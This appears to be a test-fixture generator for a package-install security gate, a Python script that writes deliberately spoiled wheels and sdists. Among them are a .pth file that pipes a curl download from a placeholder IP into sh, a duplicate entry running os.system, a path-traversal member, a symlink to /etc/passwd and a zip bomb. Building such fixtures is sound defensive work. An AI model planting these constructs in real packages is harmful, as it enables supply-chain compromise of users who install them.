@@ -1,0 +1,96 @@
+#!/usr/bin/env python3
+"""Writes the install gate's crafted packages into OUT (stdlib only, deterministic bytes).
+
+Each is what an index could serve, built the way packaging tools build them (zipfile with a
+correct RECORD, tarfile for sdists), then spoiled in one way:
+
+  cordon_clean-1.0-py3-none-any.whl      nothing to find
+  cordon_pth-1.0-py3-none-any.whl        a .pth whose import line runs os.system (pth-code, high)
+  cordon_liar-1.0-py3-none-any.whl       METADATA says requests 2.32.3
+  cordon_tampered-1.0-py3-none-any.whl   a module changed after RECORD was written
+  cordon_extra-1.0-py3-none-any.whl      a member RECORD does not list
+  cordon_twice-1.0-py3-none-any.whl      two zip entries of one name (installers differ on which wins)
+  cordon_bomb-1.0-py3-none-any.whl       a 300 MiB member of zeros (over the 256 MiB entry limit)
+  cordon_escape-1.0-py3-none-any.whl     a member named ../../escape.py
+  reqeusts-1.0-py3-none-any.whl          a typosquat of requests, clean otherwise
+  requests-2.30.0-py3-none-any.whl       a clean body under a name and version with PYSEC-2023-74
+  cordon_link-1.0.tar.gz                 an sdist with a symlink member
+  cordon_sdist-1.0.tar.gz                a clean sdist
+
+usage: make_packages.py OUT
+"""
+import base64, hashlib, io, os, sys, tarfile, zipfile
+
+out = sys.argv[1]
+os.makedirs(out, exist_ok=True)
+STAMP = (2024, 1, 1, 0, 0, 0)
+
+
+def digest(data):
+    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+
+
+def wheel(name, version, files, meta_name=None, meta_version=None, spoil=None, extra=(), raw=()):
+    """files: {path: bytes}; spoil(files) runs after RECORD is computed; extra: members left out of
+    RECORD; raw: (ZipInfo or name, bytes) written as is, last."""
+    dist = f"{name}-{version}.dist-info"
+    files = dict(files)
+    files[f"{dist}/METADATA"] = (f"Metadata-Version: 2.1\nName: {meta_name or name.replace('_', '-')}\n"
+                                 f"Version: {meta_version or version}\nSummary: a crafted package\n\n").encode()
+    files[f"{dist}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: make_packages\nRoot-Is-Purelib: true\nTag: py3-none-any\n\n"
+    record = "".join(f"{p},{digest(b)},{len(b)}\n" for p, b in files.items()) + f"{dist}/RECORD,,\n"
+    if spoil:
+        spoil(files)
+    files[f"{dist}/RECORD"] = record.encode()
+    path = os.path.join(out, f"{name}-{version}-py3-none-any.whl")
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        for p, b in list(files.items()) + list(extra):
+            z.writestr(zipfile.ZipInfo(p, STAMP), b, zipfile.ZIP_DEFLATED)
+        for info, b in raw:
+            z.writestr(info if isinstance(info, zipfile.ZipInfo) else zipfile.ZipInfo(info, STAMP), b, zipfile.ZIP_DEFLATED)
+    return path
+
+
+def sdist(name, version, files, links=()):
+    top = f"{name}-{version}"
+    path = os.path.join(out, f"{top}.tar.gz")
+    files = dict(files)
+    files["PKG-INFO"] = f"Metadata-Version: 2.1\nName: {name.replace('_', '-')}\nVersion: {version}\n\n".encode()
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as t:
+        for p, b in files.items():
+            info = tarfile.TarInfo(f"{top}/{p}")
+            info.size, info.mtime, info.mode = len(b), 1704067200, 0o644
+            t.addfile(info, io.BytesIO(b))
+        for p, target in links:
+            info = tarfile.TarInfo(f"{top}/{p}")
+            info.type, info.linkname, info.mtime = tarfile.SYMTYPE, target, 1704067200
+            t.addfile(info)
+    import gzip
+    with open(path, "wb") as f:
+        f.write(gzip.compress(buffer.getvalue(), mtime=0))
+    return path
+
+
+module = b'"""A clean module."""\n\ndef answer():\n    return 42\n'
+wheel("cordon_clean", "1.0", {"cordon_clean/__init__.py": module})
+wheel("cordon_pth", "1.0", {"cordon_pth/__init__.py": module,
+                            "cordon_pth.pth": b'import os; os.system("curl -s http://198.51.100.21/x | sh")\n'})
+wheel("cordon_liar", "1.0", {"cordon_liar/__init__.py": module}, meta_name="requests", meta_version="2.32.3")
+
+
+def tamper(files):
+    files["cordon_tampered/__init__.py"] = module + b"import os\n"
+
+
+wheel("cordon_tampered", "1.0", {"cordon_tampered/__init__.py": module}, spoil=tamper)
+wheel("cordon_extra", "1.0", {"cordon_extra/__init__.py": module}, extra=[("cordon_extra/hidden.py", b"x = 1\n")])
+wheel("cordon_twice", "1.0", {"cordon_twice/__init__.py": module}, raw=[("cordon_twice/__init__.py", b"import os\nos.system('id')\n")])
+wheel("cordon_bomb", "1.0", {"cordon_bomb/__init__.py": module}, raw=[("cordon_bomb/zeros.bin", bytes(300 << 20))])
+wheel("cordon_escape", "1.0", {"cordon_escape/__init__.py": module}, raw=[("../../escape.py", b"x = 1\n")])
+wheel("reqeusts", "1.0", {"reqeusts/__init__.py": module})
+wheel("requests", "2.30.0", {"requests/__init__.py": module})
+sdist("cordon_link", "1.0", {"setup.py": b"from setuptools import setup\nsetup()\n"}, links=[("etc-passwd", "/etc/passwd")])
+sdist("cordon_sdist", "1.0", {"setup.py": b"from setuptools import setup\nsetup(name='cordon-sdist', version='1.0')\n",
+                              "cordon_sdist/__init__.py": module})
+print(out)
